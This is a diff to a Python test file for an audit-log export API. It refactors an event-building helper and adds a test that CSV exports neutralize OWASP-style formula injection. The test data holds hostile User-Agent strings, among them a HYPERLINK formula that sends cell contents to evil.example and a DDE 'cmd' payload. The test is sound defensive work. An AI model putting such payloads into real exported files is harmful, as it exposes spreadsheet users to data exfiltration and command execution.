@@ -28,8 +28,12 @@ SERVICES = os.environ.get("CUSTOS_TEST_SERVICES") == "1"
 
 
 def _events(n: int, **meta) -> list[AuditEvent]:
-    return [event_record(action="user.updated", actor=Actor.system("test"), metadata={"n": i, **meta})
+    # event_record's rows may travel with a later statement, so they come back without an id:
+    # read them back by event_id
+    made = [event_record(action="user.updated", actor=Actor.system("test"), metadata={"n": i, **meta}).event_id
             for i in range(n)]
+    rows = {e.event_id: e for e in AuditEvent.objects.filter(event_id__in=made)}
+    return [rows[event_id] for event_id in made]
 
 
 # ---- reading --------------------------------------------------------------------------------
@@ -93,6 +97,28 @@ def test_export_streams_valid_ndjson_and_csv(api, auditor_world):
     rows = list(csv.DictReader(io.StringIO(b"".join(r.streaming_content).decode(), newline="")))
     assert len(rows) == 1 and json.loads(rows[0]["metadata"]) == tricky
     assert api.get("/v1/audit/events/export?format=xml", **bearer(tok)).status_code == 400
+
+
+def test_csv_export_neutralizes_formulas(api, auditor_world, user):
+    """OWASP CSV injection: a User-Agent a spreadsheet would run as a formula reaches the
+    trail as it was sent (and NDJSON keeps it so), but the CSV cell starts with a quote."""
+    _, _, tok, _ = auditor_world
+    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+               "\tleading tab", "\rleading cr"]
+    for ua in hostile:
+        login(api, user.username, HTTP_USER_AGENT=ua)
+    r = api.get(f"/v1/audit/events/export?format=csv&action=login.succeeded&user_id={user.pk}", **bearer(tok))
+    rows = list(csv.DictReader(io.StringIO(b"".join(r.streaming_content).decode(), newline="")))
+    assert [row["user_agent"] for row in rows] == ["'" + ua for ua in hostile]
+    for row in rows:  # no cell of the export starts a formula
+        assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for v in row.values()), row
+    r = api.get(f"/v1/audit/events/export?format=ndjson&action=login.succeeded&user_id={user.pk}", **bearer(tok))
+    assert [json.loads(line)["user_agent"] for line in b"".join(r.streaming_content).decode().splitlines()] == hostile
+    # a harmless value is left as it is
+    login(api, user.username, HTTP_USER_AGENT="Mozilla/5.0 (a=b)")
+    r = api.get(f"/v1/audit/events/export?format=csv&action=login.succeeded&user_id={user.pk}", **bearer(tok))
+    rows = list(csv.DictReader(io.StringIO(b"".join(r.streaming_content).decode(), newline="")))
+    assert rows[-1]["user_agent"] == "Mozilla/5.0 (a=b)"
 
 
 # ---- outbox: webhook ------------------------------------------------------------------------
